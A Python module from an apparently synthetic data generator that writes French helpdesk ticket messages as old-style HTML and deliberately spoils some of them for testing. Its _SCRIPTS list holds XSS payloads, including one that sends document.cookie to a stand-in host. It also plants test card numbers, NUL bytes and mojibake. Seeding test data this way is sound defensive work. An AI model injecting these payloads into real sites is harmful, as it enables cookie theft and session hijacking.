"""The messages of tickets: HTML as the old editor wrote it, with pictures in it, and what was pasted there."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from random import Random

from gigafibre.legacy.sample import pictures
from gigafibre.legacy.sample.days import at
from gigafibre.legacy.sample.files import TableFile
from gigafibre.legacy.sample.people import Customer
from gigafibre.legacy.sample.planted import Planted, mojibake
from gigafibre.legacy.sample.shape import Shape
from gigafibre.legacy.sample.threads import Thread

SPOILT = (
    "message_picture_broken", "message_picture_svg", "message_with_script", "message_with_nul", "message_with_card",
    "message_mojibake",
)  # fmt: skip
_CARDS = ("4111 1111 1111 1111", "4242424242424242", "5555-5555-5555-4444", "378282246310005")
_SCRIPTS = (
    "<script>document.location='http://exemple.example/?'+document.cookie</script>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">ici</a>',
    '<iframe src="http://exemple.example/"></iframe>',
)
_HOUR = 3_600
_PICTURED = 0.016


class Writer:
    """Writes the messages of one ticket after another; keeps in mind which of them are to go wrong."""

    def __init__(
        self, shape: Shape, planted: Planted, file: TableFile, spoilt: dict[int, str], staff: dict[int, list[int]]
    ) -> None:
        self._planted, self._file, self._staff, self._turns = planted, file, staff, spoilt
        self._rng = Random(f"{shape.seed}:messages")
        self._row = 0
        self._end = at(shape.until, 20)

    def thread(
        self, ticket: int, moment: int, thread: Thread, words: dict[str, str], customer: Customer,
        staff: tuple[int, int], status: str,
    ) -> int:  # fmt: skip
        """Write what was said on one ticket; returns the moment of the last word."""
        rng, year = self._rng, 1970 + moment // 31_556_952
        said = list(self._said(thread, status))
        for n, (place, text) in enumerate(said):
            by_customer = customer.emails and (place == "first" or rng.random() < 0.25) and _of_customer(text)
            author = 0 if by_customer else staff[0] if place == "first" else staff[1]
            public = int(bool(by_customer) or rng.random() < 0.35)
            unread = ""
            if (n == len(said) - 1 and status != "closed") or rng.random() < 0.01:
                unread = ",".join(map(str, rng.sample(self._staff[1], min(2, len(self._staff[1])))))
            html = self._html(text.format_map(words), year, author)
            if n == 0 and (kind := self._turns.get(ticket)):
                html = self._spoilt(kind, html)
                self._planted.note(kind, "ticket_msg", self._row + 1)
            self._write(ticket, author, html, moment, public, unread)
            moment = min(moment + rng.randrange(_HOUR // 6, 60 * _HOUR), self._end)
        return moment

    def close(self, tickets: int) -> None:
        """Leave the messages of tickets whose own row was deleted."""
        for _ in range(self._planted.wanted("message_of_missing_ticket")):
            self._planted.note("message_of_missing_ticket", "ticket_msg", self._row + 1)
            text = self._html("Note ajoutée au mauvais billet.", 2019, 1)
            self._write(tickets + self._rng.randrange(50, 9_000), 1, text, self._end, 0, "")

    def _said(self, thread: Thread, status: str) -> Iterator[tuple[str, str]]:
        rng = self._rng
        yield "first", rng.choice(thread.first)
        for _ in range(rng.choices((0, 1, 2, 3, 5, 9), (22, 38, 22, 11, 5, 2))[0]):
            yield "answer", rng.choice(thread.answers)
        if status == "closed" and rng.random() < 0.66:
            yield "last", rng.choice(thread.last)

    def _html(self, text: str, year: int, author: int) -> str:
        """Dress words as the editor of their year did: breaks at first, paragraphs later, a signature of staff."""
        rng = self._rng
        body = escape(text, quote=False)
        html = f"<p>{body}</p>" if year >= 2011 else f"{body}<br>\r\n"
        draw = rng.random()
        if draw < _PICTURED and year >= 2010:
            html += pictures.screenshot(rng.getrandbits(16)) if draw < _PICTURED / 2 else pictures.photo(self._row)
        elif author and year >= 2016 and draw > 0.96:
            html += f'<div style="color:#666">--<br>Soutien technique<br>{pictures.logo()}</div>'
        elif draw > 0.93:
            html += f'<blockquote type="cite"><span style="font-family:Arial">{body}</span></blockquote>'
        return html

    def _write(self, ticket: int, author: int, html: str, moment: int, public: int, unread: str) -> None:
        self._row += 1
        self._file.row(self._row, ticket, author, html, moment, public, unread)

    def _spoilt(self, kind: str, html: str) -> str:
        rng = self._rng
        match kind:
            case "message_picture_broken":
                return html + pictures.broken(rng.getrandbits(12))
            case "message_picture_svg":
                return html + pictures.drawing()
            case "message_with_script":
                return html + rng.choice(_SCRIPTS)
            case "message_with_nul":
                return html.replace(" ", " \0", 1) + "\0"
            case "message_with_card":
                return f"{html}<p>Carte {rng.choice(_CARDS)} exp {rng.randrange(1, 13):02d}/{rng.randrange(17, 29)}</p>"
            case _:
                return mojibake(html + "<p>À rappeler, réglé après la fête.</p>")


def _of_customer(text: str) -> bool:
    """Whether words are those of a customer rather than a note about him."""
    return text.startswith(
        ("Bonjour,", "Hello", "Ça ", "Plus ", "Je ", "We ", "The ", "Beaucoup", "Merci", "I ", "Il ")
    )
